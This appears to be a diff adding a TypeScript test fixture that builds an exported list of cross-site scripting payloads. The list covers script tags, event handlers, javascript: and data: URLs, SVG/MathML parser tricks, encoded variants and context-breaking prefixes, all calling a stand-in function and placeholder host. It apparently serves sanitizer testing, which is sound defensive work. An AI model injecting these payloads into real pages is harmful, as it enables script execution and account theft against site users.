@@ -1,0 +1,85 @@
+/**
+ * Markup that tries to run `zq`, as it stands in public collections of cross-site scripting: each vector on its own
+ * and behind what could close the place that it lands in.
+ */
+const vectors = [
+  '<script>zq()</script>',
+  '<script src=//zq.example></script>',
+  '<ScRiPt>zq()</sCrIpT>',
+  '<script x>zq()</script x>',
+  '<img src=x onerror=zq()>',
+  '<img src=x onerror="zq()">',
+  '<img/src=x/onerror=zq()>',
+  '<img src=x:x onerror\n=zq()>',
+  '<IMG SRC=JaVaScRiPt:zq()>',
+  '<img src="x` `<script>zq()</script>"` `>',
+  '<svg onload=zq()>',
+  '<svg/onload=zq()>',
+  '<svg><script>zq()</script></svg>',
+  '<svg><a xlink:href="javascript:zq()"><text y=20>x</text></a></svg>',
+  '<svg><animate onbegin=zq() attributeName=x dur=1s></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>zq()</script>"></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=zq()></style></mglyph></table></mtext></math>',
+  '<math href="javascript:zq()">x</math>',
+  '<body onload=zq()>',
+  '<iframe src=javascript:zq()>',
+  '<iframe srcdoc="<img src=x onerror=zq()>">',
+  '<object data="javascript:zq()">',
+  '<embed src="javascript:zq()">',
+  '<a href="javascript:zq()">x</a>',
+  '<a href="java\tscript:zq()">x</a>',
+  '<a href="&#106;avascript:zq()">x</a>',
+  '<a href=" \u0001javascript:zq()">x</a>',
+  '<a href="data:text/html,<script>zq()</script>">x</a>',
+  '<a href="vbscript:zq()">x</a>',
+  '<form action="javascript:zq()"><button>x</button></form>',
+  '<button formaction="javascript:zq()">x</button>',
+  '<input autofocus onfocus=zq()>',
+  '<details open ontoggle=zq()>x</details>',
+  '<video><source onerror=zq()></video>',
+  '<audio src=x onerror=zq()>',
+  '<marquee onstart=zq()>x</marquee>',
+  '<style>@import "//zq.example";</style>',
+  '<style>*{background:url(//zq.example)}</style>',
+  '<div style="background:url(javascript:zq())">x</div>',
+  '<link rel=stylesheet href=//zq.example>',
+  '<meta http-equiv=refresh content="0;url=javascript:zq()">',
+  '<base href="//zq.example/">',
+  '<template><script>zq()</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=zq()>">',
+  '<!--><img src=x onerror=zq()>-->',
+  '<p title="</p><img src=x onerror=zq()>">x',
+  '<xmp><img src=x onerror=zq()></xmp>',
+  '<isindex action=javascript:zq() type=image>',
+  '<plaintext onmouseover=zq()>x',
+  '<b onmouseover=zq()>x</b>',
+];
+
+const places = [
+  (vector: string) => vector,
+  (vector: string) => `">${vector}`,
+  (vector: string) => `'>${vector}`,
+  (vector: string) => `</script></title></textarea>${vector}`,
+  (vector: string) => `-->]]>${vector}<!--`,
+];
+
+/** What needs no markup of its own. */
+const bare = [
+  'javascript:zq()',
+  '";zq();//',
+  "';zq();//",
+  '`${zq()}`',
+  '{{constructor.constructor("zq()")()}}',
+  '\u2028zq()\u2029',
+  '\\u003cscript\\u003ezq()\\u003c/script\\u003e',
+  '&lt;script&gt;zq()&lt;/script&gt;',
+  '%3Cscript%3Ezq()%3C/script%3E',
+  '"onmouseover="zq()',
+  "' autofocus onfocus=zq() x='",
+  '</script><script>zq()//',
+];
+
+export const hostileTexts: string[] = [
+  ...vectors.flatMap((vector) => places.map((at) => at(vector))),
+  ...bare,
+];
